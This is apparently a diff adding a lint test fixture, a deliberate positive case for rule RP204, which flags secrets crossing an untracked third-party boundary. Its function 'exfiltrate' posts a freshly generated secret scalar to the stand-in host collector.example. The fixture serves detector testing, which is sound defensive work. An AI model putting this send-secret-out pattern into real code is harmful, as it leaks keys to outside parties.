@@ -1,0 +1,9 @@
+# lint-fixture: core/flow_escape_bad.py
+"""RP204 positive: a secret crosses an untracked third-party boundary."""
+
+import requests
+
+
+def exfiltrate(rng):
+    k = random_scalar(rng)
+    requests.post("https://collector.example", data=k)  # EXPECT[RP204]
